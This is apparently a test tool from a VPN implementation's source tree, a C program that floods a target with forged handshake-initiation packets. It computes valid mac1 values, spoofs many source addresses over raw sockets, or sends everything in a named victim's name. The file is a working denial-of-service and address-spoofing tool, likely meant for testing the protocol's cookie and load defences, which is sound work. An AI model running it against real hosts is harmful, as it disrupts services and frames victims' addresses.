// SPDX-License-Identifier: GPL-2.0
/* A flood of handshake initiations that nobody made:
 *
 *	forge ADDRESS PORT RATE SECONDS SOURCES [PUBLIC-KEY]
 *	forge ADDRESS PORT RATE SECONDS VICTIM/PORT [PUBLIC-KEY]
 *
 * to an IPv4 address, RATE a second. Their contents are random; with the receiver's public key (base64)
 * their mac1 is right, so that only the curve, or a cookie, can tell. SOURCES 1: from our own address,
 * in UDP super-packets, which costs this program little; more: each from another of that many addresses
 * from 10.64.0.0 on, by a raw socket. With an address and a port in place of SOURCES, all are in the
 * name of that victim: half of them from its port and half from any, and two of five claim to have a
 * cookie. ADDRESS and VICTIM may be IPv6 then, and the half is from any address of its /64. Prints how many it sent and in how many seconds. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include "../../src/core/messages.h"
#include "../../src/crypto/blake2s.h"
#include "../../src/lib/base/encoding.h"
#include "../../src/lib/base/secret.h"

#define POOL	     8192 /* different messages */
#define BATCH	     32
#define FIRST_SOURCE 0x0a400000U

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	struct wg_message_initiation message;
};

struct packet6 {
	u8 ip[40];
	struct udphdr udp;
	struct wg_message_initiation message;
};

static struct wg_message_initiation pool[POOL];
static struct sockaddr_in to;
static struct sockaddr_in6 to6;
static struct { /* nobody's where the family is 0 */
	int family;
	u8 address[16];
	u16 port;
} victim;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "forge: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void fill_pool(const u8 *public_key)
{
	static const char label[8] = { 'm', 'a', 'c', '1', '-', '-', '-', '-' };
	u8 text[sizeof(label) + WG_PUBLIC_LEN], key[WG_SYMMETRIC_LEN];
	struct wg_error err;

	if (wg_secret_random((u8 *)pool, sizeof(pool), &err) < 0)
		die("random");
	for (int i = 0; i < POOL; i++) {
		wg_store_le32(pool[i].type, WG_MESSAGE_INITIATION);
		memset(pool[i].macs.mac2, 0, WG_MAC_LEN);
	}
	if (!public_key)
		return;
	memcpy(text, label, sizeof(label));
	memcpy(text + sizeof(label), public_key, WG_PUBLIC_LEN);
	wg_blake2s(key, sizeof(key), text, sizeof(text), NULL, 0);
	for (int i = 0; i < POOL; i++)
		wg_blake2s(pool[i].macs.mac1, WG_MAC_LEN, &pool[i],
			   sizeof(pool[i]) - sizeof(pool[i].macs), key, sizeof(key));
}

/* Both senders send up to `n` messages of the pool, the next of which is `next`. */
static int send_own(int fd, unsigned int next, unsigned int n)
{
	struct iovec part = { &pool[next % (POOL - BATCH)], n * sizeof(*pool) };
	char control[CMSG_SPACE(sizeof(u16))] = { 0 };
	struct msghdr m = { .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &part,
			    .msg_iovlen = 1, .msg_control = control,
			    .msg_controllen = sizeof(control) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = IPPROTO_UDP;
	c->cmsg_type = 103; /* UDP_SEGMENT */
	c->cmsg_len = CMSG_LEN(sizeof(u16));
	memcpy(CMSG_DATA(c), &(u16){ sizeof(*pool) }, sizeof(u16));
	return sendmsg(fd, &m, 0) < 0 ? -1 : (int)n;
}

static int send_raw(int fd, unsigned int next, unsigned int n, u32 sources)
{
	static struct packet packets[BATCH];
	static struct iovec parts[BATCH];
	static struct mmsghdr messages[BATCH];

	for (unsigned int i = 0; i < n; i++) {
		u32 source = (next + i) * 2654435761U % sources;
		struct packet *p = &packets[i];

		p->ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
					.saddr = htonl(FIRST_SOURCE + source), .daddr = to.sin_addr.s_addr };
		p->udp = (struct udphdr){ .source = htons((u16)(1024 + source)), .dest = to.sin_port,
					  .len = htons(sizeof(p->udp) + sizeof(p->message)) };
		p->message = pool[(next + i) % POOL];
		parts[i] = (struct iovec){ p, sizeof(*p) };
		messages[i].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof(to),
						       .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	return sendmmsg(fd, messages, n, 0);
}

/* Of what a checksum is over. */
static u32 sum(u32 sum, const void *data, size_t len)
{
	const u8 *p = data;

	for (size_t i = 0; i < len; i += 2)
		sum += (u32)p[i] << 8 | (i + 1 < len ? p[i + 1] : 0);
	return sum;
}

static void forge_udp(struct udphdr *udp, struct wg_message_initiation *message, unsigned int n)
{
	*message = pool[n % POOL];
	udp->source = htons(n % 2 ? (u16)(1024 + n * 2654435761U % 60000) : victim.port);
	udp->dest = to.sin_port;
	udp->len = htons(sizeof(*udp) + sizeof(*message));
	udp->check = 0;
	if (n % 5 < 2)
		memcpy(message->macs.mac2, message->ephemeral, WG_MAC_LEN);
}

/* One message in the victim's name. */
static int send_as_victim(int fd, unsigned int n)
{
	u32 check = IPPROTO_UDP + sizeof(struct udphdr) + sizeof(struct wg_message_initiation);
	struct packet p4 = { 0 };
	struct packet6 p6 = { 0 };

	if (victim.family == AF_INET) {
		forge_udp(&p4.udp, &p4.message, n);
		p4.ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
					.daddr = to.sin_addr.s_addr };
		memcpy(&p4.ip.saddr, victim.address, 4);
		return sendto(fd, &p4, sizeof(p4), 0, (void *)&to, sizeof(to)) < 0 ? -1 : 1;
	}
	forge_udp(&p6.udp, &p6.message, n);
	p6.ip[0] = 0x60;
	p6.ip[5] = sizeof(p6) - sizeof(p6.ip);
	p6.ip[6] = IPPROTO_UDP;
	p6.ip[7] = 64;
	memcpy(p6.ip + 8, victim.address, 16);
	memcpy(p6.ip + 24, &to6.sin6_addr, 16);
	if (n % 2)
		memcpy(p6.ip + 16, &p6.message.ephemeral, 8);
	check = sum(check, p6.ip + 8, 32);
	check = sum(check, &p6.udp, sizeof(p6) - sizeof(p6.ip));
	while (check >> 16)
		check = (check & 0xffff) + (check >> 16);
	p6.udp.check = htons((u16)~check);
	return sendto(fd, &p6, sizeof(p6), 0, (void *)&to6, sizeof(to6)) < 0 ? -1 : 1;
}

static void flood(double rate, double seconds, u32 sources)
{
	int fd = victim.family ? socket(victim.family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW) :
		 sources > 1 ? socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW) :
			       socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	double begin = now(), t = begin;
	unsigned long sent = 0;

	if (fd < 0)
		die("socket");
	for (; t < begin + seconds; t = now()) {
		double due = (t - begin) * rate - (double)sent;
		unsigned int n = due < BATCH ? (unsigned int)due : BATCH;
		int done;

		if (!n) {
			usleep(300);
			continue;
		}
		if (victim.family)
			done = send_as_victim(fd, (unsigned int)sent);
		else
			done = sources > 1 ? send_raw(fd, (unsigned int)sent, n, sources) :
					     send_own(fd, (unsigned int)sent, n);
		/* A link may be down for a moment. */
		if (done < 0 && errno != ENOBUFS && errno != ECONNREFUSED && errno != EINVAL &&
		    errno != ENETUNREACH && errno != ENETDOWN)
			die("send");
		sent += done > 0 ? (unsigned long)done : 0;
	}
	printf("%lu %.3f\n", sent, t - begin);
}

static bool parse_places(const char *target, char *sources)
{
	char *slash = strchr(sources, '/');

	if (!slash)
		return inet_aton(target, &to.sin_addr) && atof(sources) >= 1;
	*slash = 0;
	victim.port = (u16)atoi(slash + 1);
	victim.family = strchr(sources, ':') ? AF_INET6 : AF_INET;
	return inet_pton(victim.family, sources, victim.address) == 1 &&
	       inet_pton(victim.family, target,
			 victim.family == AF_INET ? (void *)&to.sin_addr :
						    (void *)&to6.sin6_addr) == 1;
}

int main(int argc, char **argv)
{
	u8 public_key[WG_PUBLIC_LEN];

	if (argc < 6 || !parse_places(argv[1], argv[5]) ||
	    (argc > 6 && !wg_key_from_base64(public_key, argv[6], strlen(argv[6])))) {
		fprintf(stderr, "usage: forge ADDRESS PORT RATE SECONDS SOURCES|VICTIM/PORT [PUBLIC-KEY]\n");
		return 1;
	}
	to.sin_family = AF_INET;
	to.sin_port = htons((u16)atoi(argv[2]));
	/* A raw socket wants no port. */
	to6.sin6_family = AF_INET6;
	fill_pool(argc > 6 ? public_key : NULL);
	flood(atof(argv[3]), atof(argv[4]), (u32)atof(argv[5]));
	return 0;
}
